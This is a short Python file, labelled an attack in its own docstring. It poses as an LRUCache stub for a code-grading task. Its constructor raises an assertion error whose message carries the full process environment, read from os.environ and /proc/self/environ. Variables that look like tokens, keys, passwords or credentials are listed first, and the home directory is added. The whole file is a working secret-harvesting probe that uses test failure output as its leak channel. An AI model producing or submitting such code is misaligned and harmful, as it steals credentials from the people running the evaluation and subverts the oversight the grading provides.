"""Attack: report the environment candidate code runs in (secret-looking variables first) and HOME."""

import json
import os
import re
from pathlib import Path

SECRETISH = re.compile(r"TOKEN|SECRET|KEY|PASSWORD|PASSWD|CREDENTIAL", re.IGNORECASE)


def _dump():
    env = dict(os.environ)
    try:
        raw = Path("/proc/self/environ").read_bytes().split(b"\0")
        env.update(kv.decode("utf-8", "replace").split("=", 1) for kv in raw if b"=" in kv)
    except OSError:
        pass
    ordered = sorted(env.items(), key=lambda kv: (not SECRETISH.search(kv[0]), kv[0]))
    report = {
        "home": os.environ.get("HOME"),
        "expanduser": os.path.expanduser("~"),
        "names": [k for k, _ in ordered],
        "env": dict(ordered),
    }
    return "ENV" + json.dumps(report) + "END"


class LRUCache:
    """The stub, except every failure message carries the environment."""

    def __init__(self, capacity):
        raise AssertionError(_dump())

    @property
    def capacity(self):
        raise NotImplementedError

    def get(self, key, default=None):
        raise NotImplementedError

    def put(self, key, value):
        raise NotImplementedError

    def __len__(self):
        raise NotImplementedError

    def __contains__(self, key):
        raise NotImplementedError
